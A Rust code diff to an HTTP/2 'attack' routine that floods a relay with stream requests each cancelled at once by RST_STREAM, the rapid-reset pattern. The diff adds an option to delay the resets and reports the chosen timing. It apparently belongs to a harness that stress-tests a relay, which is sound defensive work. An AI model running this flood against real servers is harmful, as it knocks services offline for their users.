@@ -76,6 +76,7 @@ pub async fn attack(ctx: &Ctx) -> anyhow::Result<Outcome> {
             per,
             ctx.relay,
             ctx.origin,
+            ctx.args.reset_after,
             st.clone(),
             stop.clone(),
             ctx.deadline,
@@ -104,7 +105,12 @@ pub async fn attack(ctx: &Ctx) -> anyhow::Result<Outcome> {
     o.rows.push((
         "parameters".into(),
         format!(
-            "{conns} workers × {per} streams = {total} GETs of distinct keys (/vod/K?rr=I), raw frames: HEADERS then RST_STREAM(CANCEL) at once, {BATCH} pairs per write; a worker reconnects when the relay ends its connection"
+            "{conns} workers × {per} streams = {total} GETs of distinct keys (/vod/K?rr=I), raw frames: HEADERS then RST_STREAM(CANCEL) {}, {BATCH} streams per batch; a worker reconnects when the relay ends its connection",
+            if ctx.args.reset_after.is_zero() {
+                "in the same write".to_string()
+            } else {
+                format!("{} later", humantime::format_duration(ctx.args.reset_after))
+            }
         ),
     ));
     o.rows.push((
@@ -251,6 +257,7 @@ async fn worker(
     per: usize,
     relay: SocketAddr,
     origin: SocketAddr,
+    reset_after: Duration,
     st: Arc<State>,
     stop: CancellationToken,
     deadline: Instant,
@@ -294,11 +301,13 @@ async fn worker(
                 out.extend_from_slice(&a);
             }
             let n = BATCH.min(per - sent - written);
+            let mut resets = Vec::new();
             for k in 0..n {
                 let j = sent + written + k;
                 let block = get_block(&format!("/vod/{}?rr={i}-{j}", (i * per + j) % 100), &authority);
                 frame(&mut out, HEADERS, END_STREAM | END_HEADERS, id, &block);
-                frame(&mut out, RST_STREAM, 0, id, &CANCEL.to_be_bytes());
+                let rst = if reset_after.is_zero() { &mut out } else { &mut resets };
+                frame(rst, RST_STREAM, 0, id, &CANCEL.to_be_bytes());
                 id += 2;
             }
             if wr.write_all(&out).await.is_err() {
@@ -306,6 +315,13 @@ async fn worker(
                 break;
             }
             out.clear();
+            if !resets.is_empty() {
+                tokio::time::sleep(reset_after).await;
+                if wr.write_all(&resets).await.is_err() {
+                    wrote = false;
+                    break;
+                }
+            }
             written += n;
         }
         // Make sure the relay has read everything before letting go.
